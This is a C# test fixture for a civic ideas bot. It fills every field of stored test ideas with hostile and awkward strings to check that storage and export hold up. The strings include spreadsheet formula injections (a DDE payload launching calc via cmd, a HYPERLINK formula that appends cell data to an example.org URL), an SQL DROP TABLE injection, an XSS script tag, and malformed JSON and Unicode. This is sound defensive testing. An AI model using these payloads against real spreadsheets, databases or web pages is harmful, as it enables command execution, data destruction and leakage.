// SPDX-License-Identifier: EUPL-1.2
using GemeinsamDigital.Bot.Ideas;
using GemeinsamDigital.Bot.Storage;
using GemeinsamDigital.Bot.Tests.Storage;

namespace GemeinsamDigital.Bot.Tests.Staff;

/// <summary>Ideas of people who know how files break.</summary>
internal static class HostileIdeas
{
    private static readonly string[] Texts =
    [
        "=HYPERLINK(\"https://example.org/?\"&A1;\"Klick\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\"; DROP TABLE ideas; --\"",
        "'=1+1",
        "eins;zwei,drei\tvier",
        "Zeile 1\n\n\"Zeile\" 3;\n=Zeile 4",
        "<script>alert(1)</script> & „Gänsefüßchen“",
        "{\"title\":\"nein\"}]",
        "👩‍👩‍👧 über ÄÖÜ ß – 日本語 العربية",
        "\\\"\\n\\u0041 C:\\temp\\",
    ];

    public static IReadOnlyList<Idea> All { get; } = [.. Texts.Select((text, index) => Of($"2026-{index + 1:00000}", text))];

    public static async Task StoreAsync(IDatabase database, params IEnumerable<Idea> ideas) => await database.WriteAsync(
        async (session, token) =>
        {
            foreach (var idea in ideas)
                await IdeaRows.InsertAsync(session, idea, token);
            return Verdict.Keep(true);
        },
        TestContext.Current.CancellationToken);

    private static Idea Of(string reference, string text)
    {
        var idea = Some.Idea(reference);
        return idea with
        {
            Contact = null,
            RelatedTo = null,
            PublicReply = text,
            Fields = idea.Fields with
            {
                Title = text,
                Description = text,
                Problem = text,
                Benefit = text,
                Place = text,
                Measure = text,
                Contribution = text,
                Link = text,
                DisplayName = text,
            },
        };
    }
}
